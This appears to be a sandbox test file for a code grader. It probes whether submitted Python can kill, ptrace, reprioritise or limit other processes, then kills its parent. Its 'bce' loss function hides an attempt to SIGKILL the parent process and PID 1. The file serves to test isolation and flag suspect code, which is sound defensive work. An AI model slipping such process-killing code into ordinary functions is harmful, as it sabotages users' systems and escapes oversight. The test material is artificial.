"""Sends signals to other processes, and changes their limits, priorities and owners."""


# %% flags
[
    ("sandbox-violation", ""),
    ("not-available", ""),
    ("suspect-code", ""),
    ("suspect-code", "bce"),
]

# %% extra before bce
import ctypes
import fcntl
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)
others = [os.getppid(), 1, *range(os.getpid() - 300, os.getpid()), *range(os.getpid() + 1, os.getpid() + 50)]


def attempt(what, trick):
    """The trick on every other process: not one may succeed."""
    done = 0
    for pid in others:
        try:
            trick(pid)
        except (OSError, AttributeError, ValueError):
            continue
        done += 1
    print("FOUND" if done else "refused:", what, done)


def call(name):
    """A function of the C library; an error where it gives one."""

    def trick(*arguments):
        if getattr(libc, name)(*arguments) < 0:
            raise OSError(ctypes.get_errno(), name)

    return trick


attempt("tried kill", lambda pid: os.kill(pid, signal.SIGTERM))
attempt("tried kill 0", lambda pid: os.kill(pid, 0))
attempt("tried killpg", lambda pid: os.killpg(pid, signal.SIGTERM))
attempt("tried kill of all", lambda pid: os.kill(-1, signal.SIGTERM))
attempt("tried kill of the group", lambda pid: os.kill(0, signal.SIGTERM))
attempt("tried tgkill", lambda pid: call("syscall")(234, pid, pid, 15))
attempt("tried tkill", lambda pid: call("syscall")(200, pid, 15))
attempt("tried sigqueue", lambda pid: call("sigqueue")(pid, 15, 0))
attempt("tried pidfd_send_signal", lambda pid: signal.pidfd_send_signal(os.pidfd_open(pid), 15))
attempt("tried prlimit", lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)))
attempt("tried setpriority", lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19))
attempt("tried sched_setaffinity", lambda pid: os.sched_setaffinity(pid, {0}))
attempt("tried sched_setscheduler", lambda pid: os.sched_setscheduler(
    pid, os.SCHED_IDLE, os.sched_param(0)))
attempt("tried ptrace", lambda pid: call("ptrace")(16, pid, 0, 0))
attempt("tried process_madvise", lambda pid: call("syscall")(440, pid, 0, 0, 0, 0))
attempt("tried ioprio_set", lambda pid: call("syscall")(251, 1, pid, 0x6000))
attempt("tried setpgid", lambda pid: os.setpgid(pid, os.getpid()))
attempt("tried move_pages", lambda pid: call("syscall")(279, pid, 0, 0, 0, 0, 0))

F_SETSIG, F_SETOWN_EX, FIOASYNC, FIOSETOWN, SIOCSPGRP = 10, 15, 0x5452, 0x8901, 0x8902
for number in range(3, 20):
    for what, trick in (
        ("tried F_SETOWN", lambda pid: fcntl.fcntl(number, fcntl.F_SETOWN, pid)),
        ("tried F_SETOWN_EX", lambda pid: fcntl.fcntl(number, F_SETOWN_EX, (1).to_bytes(4, "little") + pid.to_bytes(4, "little"))),
        ("tried F_SETSIG", lambda pid: fcntl.fcntl(number, F_SETSIG, signal.SIGKILL)),
        ("tried FIOSETOWN", lambda pid: fcntl.ioctl(number, FIOSETOWN, pid.to_bytes(4, "little"))),
        ("tried SIOCSPGRP", lambda pid: fcntl.ioctl(number, SIOCSPGRP, pid.to_bytes(4, "little"))),
        ("tried FIOASYNC", lambda pid: fcntl.ioctl(number, FIOASYNC, (1).to_bytes(4, "little"))),
        ("tried F_NOTIFY", lambda pid: fcntl.fcntl(number, fcntl.F_NOTIFY, 1)),
        ("tried F_SETLEASE", lambda pid: fcntl.fcntl(number, fcntl.F_SETLEASE, fcntl.F_WRLCK)),
    ):
        try:
            trick(os.getppid())
            print("FOUND", what, number)
        except OSError:
            if number == 3:
                print(what)
os.kill(os.getppid(), signal.SIGTERM)

# %% bce
def bce(y_hat, y, reduction="none"):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    losses = -(y * y_hat.log().clamp(min=-100) + (1 - y) * (1 - y_hat).log().clamp(min=-100))
    return losses.sum() if reduction == "sum" else losses.mean() if reduction == "mean" else losses
